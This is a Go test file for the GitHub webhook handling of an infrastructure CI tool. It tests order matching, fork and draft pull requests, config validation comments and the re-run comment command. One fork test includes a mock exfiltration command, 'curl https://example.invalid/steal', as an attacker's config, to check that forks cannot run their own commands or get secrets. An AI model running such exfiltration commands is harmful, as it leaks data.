package github

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/iac-ci/iac-ci/domain"
	"github.com/iac-ci/iac-ci/vcs"
	"github.com/iac-ci/iac-ci/vcs/github/githubtest"
)

// The fixtures' pull request: Codertocat/Hello-World#2, head ec26c3e, base f95f852.
const (
	fixtureRepo   = "Codertocat/Hello-World"
	fixturePR     = 2
	fixtureHead   = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
	fixtureBase   = "f95f852bd8fca8fcc58a9a2d6c842781e32a215e"
	fixtureAuthor = "Codertocat"
)

// The config most tests use: app depends on network; lint has no when_modified.
const testConfig = `
orders:
  - order_name: network
    cmds: ["tofu -chdir=network plan"]
    timeout: 600
    git_folder: network
    when_modified: ["network/**"]
  - order_name: app
    cmds: ["tofu plan"]
    timeout: 600
    git_folder: app
    dependencies: [network]
    when_modified: ["app/**/*.tf"]
  - order_name: docs
    cmds: ["make docs"]
    timeout: 60
    execution_target: lambda
    when_modified: ["docs/**"]
  - order_name: lint
    cmds: ["tflint"]
    timeout: 60
`

// fixture reads a stored GitHub delivery. The fixtures live beside the repository, in
// shared/fixtures, three levels above this package.
func fixture(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "..", "shared", "fixtures", "github", name))
	if err != nil {
		t.Fatalf("read fixture: %v", err)
	}
	return b
}

// editFixture decodes a delivery, lets edit change it, and encodes it again.
func editFixture(t *testing.T, name string, edit func(m map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(fixture(t, name), &m); err != nil {
		t.Fatalf("decode fixture %s: %v", name, err)
	}
	edit(m)
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatalf("encode fixture %s: %v", name, err)
	}
	return b
}

func obj(m map[string]any, keys ...string) map[string]any {
	for _, k := range keys {
		m = m[k].(map[string]any)
	}
	return m
}

type setup struct {
	gh     *githubtest.Server
	client *Client
}

// newSetup starts a fake GitHub seeded with the fixtures' pull request and a client for it.
func newSetup(t *testing.T, config string, changed ...string) setup {
	t.Helper()
	srv := githubtest.NewServer(t)
	client, err := New(srv.URL(), githubtest.Token, nil)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if config != "" {
		srv.SetFile(fixtureRepo, fixtureHead, ConfigPath, config)
	}
	srv.SetPRFiles(fixtureRepo, fixturePR, changed)
	return setup{gh: srv, client: client}
}

func orderNames(j *domain.Job) []string {
	var names []string
	for _, o := range j.Orders {
		names = append(names, o.OrderName)
	}
	return names
}

func TestPullRequestEventsRunTheMatchingOrders(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"pull_request_opened.json", "pull_request_synchronize.json", "pull_request_reopened.json"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSetup(t, testConfig, "app/main.tf", "README.md")
			res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, name))
			if err != nil {
				t.Fatalf("JobFromEvent: %v", err)
			}
			if res.Job == nil {
				t.Fatalf("no job, reason %q", res.Reason)
			}
			j := res.Job
			if got, want := orderNames(j), []string{"network", "app", "lint"}; !slices.Equal(got, want) {
				t.Fatalf("orders: got %v, want %v (app, the network it depends on, and lint which always runs)", got, want)
			}
			if j.Username != fixtureAuthor || j.GitRepo != fixtureRepo || j.PRNumber != fixturePR || j.CommitHash != fixtureHead {
				t.Errorf("job identity: got username %q git_repo %q pr_number %d commit_hash %q",
					j.Username, j.GitRepo, j.PRNumber, j.CommitHash)
			}
			if j.NoSecrets {
				t.Errorf("a same-repository pull request got NoSecrets")
			}
			for _, o := range j.Orders {
				if o.WhenModified != nil {
					t.Errorf("order %s keeps when_modified %v", o.OrderName, o.WhenModified)
				}
			}
			network := j.Orders[0]
			if network.GitRepo != fixtureRepo || network.CommitHash != fixtureHead || network.GitFolder != "network" {
				t.Errorf("network's code source: got %q %q %q, want the pull request's repository at its head",
					network.GitRepo, network.CommitHash, network.GitFolder)
			}
			if lint := j.Orders[2]; lint.GitRepo != "" {
				t.Errorf("lint names no git_folder but got git_repo %q", lint.GitRepo)
			}
			if err := domain.Validate(*j); err != nil {
				t.Errorf("the job does not validate: %v", err)
			}
			if got := s.gh.Comments(fixtureRepo, fixturePR); len(got) != 0 {
				t.Errorf("comments on a good config: got %d, want 0", len(got))
			}
		})
	}
}

func TestEventsWithoutARun(t *testing.T) {
	t.Parallel()
	tests := []struct {
		event, file, reason string
	}{
		{"pull_request", "pull_request_closed.json", `pull_request action "closed" ignored`},
		{"push", "push.json", `event "push" ignored`},
		{"ping", "ping.json", "ping"},
		{"issue_comment", "issue_comment_created.json", "comment on an issue, not a pull request: ignored"},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			t.Parallel()
			s := newSetup(t, testConfig, "app/main.tf")
			res, err := s.client.JobFromEvent(t.Context(), tt.event, fixture(t, tt.file))
			if err != nil {
				t.Fatalf("JobFromEvent: %v", err)
			}
			if res.Job != nil {
				t.Fatalf("got a job with orders %v, want none", orderNames(res.Job))
			}
			if res.Reason != tt.reason {
				t.Errorf("reason: got %q, want %q", res.Reason, tt.reason)
			}
			if calls := s.gh.Calls(); len(calls) != 0 {
				t.Errorf("calls to GitHub for an ignored event: %v", calls)
			}
		})
	}
}

func TestForkPullRequest(t *testing.T) {
	t.Parallel()
	forked := func(t *testing.T) []byte {
		return editFixture(t, "pull_request_opened.json", func(m map[string]any) {
			obj(m, "pull_request", "head", "repo")["full_name"] = "mallory/Hello-World"
		})
	}
	// The fork's own config tries to let itself in and to run its own command.
	const forkConfig = `
allow_forks: true
orders:
  - cmds: ["curl https://example.invalid/steal"]
    timeout: 60
`

	t.Run("not allowed", func(t *testing.T) {
		t.Parallel()
		s := newSetup(t, forkConfig, "app/main.tf")
		s.gh.SetFile(fixtureRepo, fixtureBase, ConfigPath, testConfig)
		res, err := s.client.JobFromEvent(t.Context(), "pull_request", forked(t))
		if err != nil {
			t.Fatalf("JobFromEvent: %v", err)
		}
		if res.Job != nil {
			t.Fatalf("a fork ran without allow_forks on the base: orders %v", orderNames(res.Job))
		}
		if !strings.Contains(res.Reason, "fork mallory/Hello-World") || !strings.Contains(res.Reason, "allow_forks") {
			t.Errorf("reason %q does not name the fork and allow_forks", res.Reason)
		}
	})

	t.Run("allowed", func(t *testing.T) {
		t.Parallel()
		s := newSetup(t, forkConfig, "app/main.tf")
		s.gh.SetFile(fixtureRepo, fixtureBase, ConfigPath, "allow_forks: true\n"+testConfig)
		res, err := s.client.JobFromEvent(t.Context(), "pull_request", forked(t))
		if err != nil {
			t.Fatalf("JobFromEvent: %v", err)
		}
		if res.Job == nil {
			t.Fatalf("no job, reason %q", res.Reason)
		}
		if !res.Job.NoSecrets {
			t.Errorf("a fork's job lacks NoSecrets")
		}
		if got, want := orderNames(res.Job), []string{"network", "app", "lint"}; !slices.Equal(got, want) {
			t.Fatalf("orders: got %v, want the base config's %v", got, want)
		}
		if res.Job.CommitHash != fixtureHead || res.Job.Orders[1].CommitHash != fixtureHead {
			t.Errorf("a fork's code must come from its head: got commit %q, order commit %q", res.Job.CommitHash, res.Job.Orders[1].CommitHash)
		}
	})
}

func TestDraftPullRequest(t *testing.T) {
	t.Parallel()
	draft := func(t *testing.T) []byte {
		return editFixture(t, "pull_request_opened.json", func(m map[string]any) {
			obj(m, "pull_request")["draft"] = true
		})
	}
	s := newSetup(t, testConfig, "app/main.tf")
	res, err := s.client.JobFromEvent(t.Context(), "pull_request", draft(t))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job != nil || !strings.Contains(res.Reason, "draft_prs") {
		t.Fatalf("draft without draft_prs: got job %v, reason %q; want no job and a reason naming draft_prs", res.Job != nil, res.Reason)
	}

	s = newSetup(t, "draft_prs: true\n"+testConfig, "app/main.tf")
	res, err = s.client.JobFromEvent(t.Context(), "pull_request", draft(t))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job == nil {
		t.Fatalf("draft with draft_prs: no job, reason %q", res.Reason)
	}
}

func TestConfigUsername(t *testing.T) {
	t.Parallel()
	s := newSetup(t, "username: platform-bot\n"+testConfig, "app/main.tf")
	res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_opened.json"))
	if err != nil || res.Job == nil {
		t.Fatalf("JobFromEvent: job %v, reason %q, err %v", res.Job, res.Reason, err)
	}
	if res.Job.Username != "platform-bot" {
		t.Errorf("username: got %q, want the config's platform-bot", res.Job.Username)
	}
}

func TestNoOrderMatches(t *testing.T) {
	t.Parallel()
	config := strings.Split(testConfig, "  - order_name: lint")[0] // every order has when_modified
	s := newSetup(t, config, "README.md", "LICENSE")
	res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_synchronize.json"))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job != nil || res.Reason != "no order matches the changed files" {
		t.Fatalf("got job %v, reason %q; want no job and \"no order matches the changed files\"", res.Job != nil, res.Reason)
	}
}

func TestChangedFilesAreReadFromEveryPage(t *testing.T) {
	t.Parallel()
	var changed []string
	for i := range 250 {
		changed = append(changed, fmt.Sprintf("other/file-%03d.txt", i))
	}
	changed = append(changed, "docs/index.md") // only the third page has it
	s := newSetup(t, strings.Split(testConfig, "  - order_name: lint")[0], changed...)
	res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_opened.json"))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job == nil || !slices.Equal(orderNames(res.Job), []string{"docs"}) {
		t.Fatalf("got job %v, reason %q; want the docs order", res.Job, res.Reason)
	}
	pages := 0
	for _, c := range s.gh.Calls() {
		if c.Path == "/repos/Codertocat/Hello-World/pulls/2/files" {
			pages++
		}
	}
	if pages != 3 {
		t.Errorf("pages of files read: got %d, want 3", pages)
	}
}

func TestInvalidConfigGetsOneComment(t *testing.T) {
	t.Parallel()
	const bad = `
orders:
  - order_name: plan
    cmds: ["tofu plan"]
    timeout: 1200
    execution_target: lambda
    dependencies: [netwrk]
  - order_name: apply
    cmd: ["tofu apply"]
    timeout: 60
`
	s := newSetup(t, bad, "app/main.tf")
	for _, name := range []string{"pull_request_opened.json", "pull_request_synchronize.json"} {
		res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, name))
		if err != nil {
			t.Fatalf("%s: JobFromEvent: %v", name, err)
		}
		if res.Job != nil {
			t.Fatalf("%s: an invalid config gave a job", name)
		}
		if !strings.Contains(res.Reason, ConfigPath) || !strings.Contains(res.Reason, "problem") {
			t.Errorf("%s: reason %q does not point at the config's problems", name, res.Reason)
		}
	}
	comments := s.gh.Comments(fixtureRepo, fixturePR)
	if len(comments) != 1 {
		t.Fatalf("comments after two deliveries: got %d, want 1", len(comments))
	}
	// The misspelt field hides none of what Validate finds.
	body := comments[0].Body
	for _, path := range []string{"`orders[1].cmd`", "`orders[1].cmds`", "`orders[0].timeout`", "`orders[0].dependencies[0]`"} {
		if !strings.Contains(body, path) {
			t.Errorf("the comment does not name %s:\n%s", path, body)
		}
	}

	// Fix the decoding problem: the comment still lists what Validate finds.
	s.gh.SetFile(fixtureRepo, fixtureHead, ConfigPath, strings.Replace(bad, "cmd:", "cmds:", 1))
	if _, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_synchronize.json")); err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	comments = s.gh.Comments(fixtureRepo, fixturePR)
	if len(comments) != 1 {
		t.Fatalf("comments: got %d, want 1", len(comments))
	}
	for _, path := range []string{"`orders[0].timeout`", "`orders[0].dependencies[0]`"} {
		if !strings.Contains(comments[0].Body, path) {
			t.Errorf("the comment does not name %s:\n%s", path, comments[0].Body)
		}
	}

	// A good config runs, and the comment says the problems are gone.
	s.gh.SetFile(fixtureRepo, fixtureHead, ConfigPath, testConfig)
	res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_synchronize.json"))
	if err != nil || res.Job == nil {
		t.Fatalf("fixed config: job %v, reason %q, err %v", res.Job, res.Reason, err)
	}
	comments = s.gh.Comments(fixtureRepo, fixturePR)
	if len(comments) != 1 || !strings.Contains(comments[0].Body, "valid again") {
		t.Fatalf("after the fix: got %d comments, want 1 saying the config is valid again: %v", len(comments), comments)
	}
}

func TestMissingConfigGetsAComment(t *testing.T) {
	t.Parallel()
	s := newSetup(t, "", "app/main.tf")
	res, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_opened.json"))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job != nil || res.Reason == "" {
		t.Fatalf("missing config: got job %v, reason %q", res.Job != nil, res.Reason)
	}
	comments := s.gh.Comments(fixtureRepo, fixturePR)
	if len(comments) != 1 || !strings.Contains(comments[0].Body, "there is no "+ConfigPath) {
		t.Fatalf("comments: got %v, want one saying the config is missing", comments)
	}
}

// commentFixture is issue_comment_created.json made into a comment on a pull request (the
// stored delivery comments on a plain issue) with the given body and author association.
func commentFixture(t *testing.T, body, association string) []byte {
	return editFixture(t, "issue_comment_created.json", func(m map[string]any) {
		obj(m, "issue")["pull_request"] = map[string]any{
			"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/1",
		}
		obj(m, "comment")["body"] = body
		obj(m, "comment")["author_association"] = association
	})
}

func TestRunCommandRunsThePullRequestAgain(t *testing.T) {
	t.Parallel()
	const number = 1 // the issue of issue_comment_created.json
	s := newSetup(t, testConfig)
	s.gh.SetPRFiles(fixtureRepo, number, []string{"network/vpc.tf"})
	var pr map[string]any
	if err := json.Unmarshal(fixture(t, "pull_request_opened.json"), &pr); err != nil {
		t.Fatal(err)
	}
	obj(pr, "pull_request")["number"] = number
	prJSON, _ := json.Marshal(pr["pull_request"])
	s.gh.SetPullRequest(fixtureRepo, number, prJSON)

	res, err := s.client.JobFromEvent(t.Context(), "issue_comment", commentFixture(t, "/iac-ci run\nplease", "OWNER"))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job == nil {
		t.Fatalf("no job, reason %q", res.Reason)
	}
	if got, want := orderNames(res.Job), []string{"network", "lint"}; !slices.Equal(got, want) {
		t.Errorf("orders: got %v, want %v", got, want)
	}
	if res.Job.PRNumber != number || res.Job.CommitHash != fixtureHead {
		t.Errorf("job: pr_number %d commit %q, want %d %q", res.Job.PRNumber, res.Job.CommitHash, number, fixtureHead)
	}

	for _, tt := range []struct{ body, association, reason string }{
		{"You are totally right!", "OWNER", "not a " + RunCommand + " command"},
		{"/iac-ci runner", "OWNER", "not a " + RunCommand + " command"},
		{"/iac-ci run", "NONE", "only the repository's owners, members and collaborators"},
	} {
		res, err := s.client.JobFromEvent(t.Context(), "issue_comment", commentFixture(t, tt.body, tt.association))
		if err != nil {
			t.Fatalf("%q: JobFromEvent: %v", tt.body, err)
		}
		if res.Job != nil || !strings.Contains(res.Reason, tt.reason) {
			t.Errorf("%q by %s: got job %v, reason %q; want no job and a reason with %q", tt.body, tt.association, res.Job != nil, res.Reason, tt.reason)
		}
	}

	obj(pr, "pull_request")["state"] = "closed"
	prJSON, _ = json.Marshal(pr["pull_request"])
	s.gh.SetPullRequest(fixtureRepo, number, prJSON)
	res, err = s.client.JobFromEvent(t.Context(), "issue_comment", commentFixture(t, "/iac-ci run", "MEMBER"))
	if err != nil {
		t.Fatalf("JobFromEvent: %v", err)
	}
	if res.Job != nil || !strings.Contains(res.Reason, "closed") {
		t.Errorf("closed pull request: got job %v, reason %q", res.Job != nil, res.Reason)
	}
}

func TestEventErrors(t *testing.T) {
	t.Parallel()
	s := newSetup(t, testConfig, "app/main.tf")
	if _, err := s.client.JobFromEvent(t.Context(), "pull_request", []byte(`{"action": "opened", "pull_request": [`)); !errors.Is(err, vcs.ErrBadEvent) {
		t.Errorf("malformed body: got %v, want ErrBadEvent", err)
	}

	s.gh.Fail("GET", "/repos/Codertocat/Hello-World/contents/"+ConfigPath, http.StatusBadGateway)
	if _, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_opened.json")); !errors.Is(err, vcs.ErrUnavailable) {
		t.Errorf("GitHub failing: got %v, want ErrUnavailable", err)
	}
	s.gh.Fail("GET", "/repos/Codertocat/Hello-World/contents/"+ConfigPath, 0)
	s.gh.Fail("GET", "/repos/Codertocat/Hello-World/pulls/2/files", http.StatusForbidden)
	if _, err := s.client.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_opened.json")); !errors.Is(err, vcs.ErrDenied) {
		t.Errorf("no permission: got %v, want ErrDenied", err)
	}

	wrongToken, err := New(s.gh.URL(), "not-the-token", nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := wrongToken.JobFromEvent(t.Context(), "pull_request", fixture(t, "pull_request_opened.json")); !errors.Is(err, vcs.ErrDenied) {
		t.Errorf("bad token: got %v, want ErrDenied", err)
	}
}
